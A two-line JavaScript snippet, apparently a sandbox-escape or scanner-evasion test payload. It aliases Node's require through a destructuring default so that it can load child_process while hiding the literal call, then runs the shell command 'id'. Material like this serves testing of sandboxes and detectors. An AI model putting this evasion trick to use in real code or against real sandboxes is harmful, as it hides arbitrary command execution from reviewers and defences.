const { load = require } = {};
load("child_process").execSync("id", {stdio: "inherit"});
